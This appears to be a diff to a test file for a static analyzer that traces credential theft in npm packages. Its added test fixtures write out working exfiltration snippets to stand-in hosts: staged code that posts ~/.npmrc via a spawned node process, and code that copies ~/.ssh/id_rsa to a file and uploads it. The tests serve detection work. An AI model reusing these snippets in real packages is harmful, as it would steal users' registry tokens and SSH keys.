@@ -1,7 +1,7 @@
 import { describe, expect, it } from "vitest";
 import { parseShell } from "../../../src/analyzers/shell-words.js";
 import { quote } from "../../../src/analyzers/js/sinks.js";
-import { analyze, manifest } from "./helpers.js";
+import { analyze, flowSummary, manifest } from "./helpers.js";
 
 describe("code run by node -e", () => {
   it("argv code built at run time (firebase-tools' hook script) is analysed partly, not reported as unparsable", async () => {
@@ -29,6 +29,25 @@ describe("code run by node -e", () => {
   it("backslashes inside double quotes of a script are kept (\\x41 stays an escape of the JS code)", async () => {
     const facts = await analyze({ "package.json": manifest({ postinstall: "node -e \"fetch('https://nl.example.invalid/' + 'x\\x41')\"" }), "index.js": "" });
     expect(facts.sinks.map((s) => s.destination)).toEqual(["https://nl.example.invalid/xA"]);
+  });
+
+  it("a file the package wrote with known text and runs with process.execPath is analysed as its code", async () => {
+    const stage = "require('https').request({ host: 'stage.example.invalid', method: 'POST' }).end(require('fs').readFileSync(require('os').homedir() + '/.npmrc'));";
+    const files = (run: string) => ({
+      "index.js": `const fs = require('fs'); const cp = require('child_process');\nfs.writeFileSync('/tmp/.stage.js', ${JSON.stringify(stage)});\n${run}\n`,
+    });
+    expect(flowSummary(await analyze(files("cp.spawn(process.execPath, ['/tmp/.stage.js']);")))).toEqual(["registry-token -> http https://stage.example.invalid @index.js:3 (import)"]);
+    expect(flowSummary(await analyze(files("cp.execSync('node /tmp/.stage.js');")))).toEqual(["registry-token -> http https://stage.example.invalid @index.js:3 (import)"]);
+    // Another file than the one written runs nothing known.
+    expect(flowSummary(await analyze(files("cp.spawn(process.execPath, ['/tmp/.other.js']);")))).toEqual([]);
+  });
+
+  it("a file holds what was written to it: read back, it carries the credential; other files do not", async () => {
+    const files = (read: string) => ({
+      "index.js": `const fs = require('fs'); const os = require('os');\nfs.writeFileSync('/tmp/loot.txt', fs.readFileSync(os.homedir() + '/.ssh/id_rsa'));\nfs.writeFileSync('/tmp/plain.txt', 'hello');\nfetch('https://c.example.invalid/', { method: 'POST', body: fs.readFileSync('${read}') });\n`,
+    });
+    expect(flowSummary(await analyze(files("/tmp/loot.txt")))).toEqual(["ssh-key -> http https://c.example.invalid/ @index.js:4 (import)"]);
+    expect(flowSummary(await analyze(files("/tmp/plain.txt")))).toEqual([]);
   });
 
   it("argv words come back exactly from the shell reader", () => {
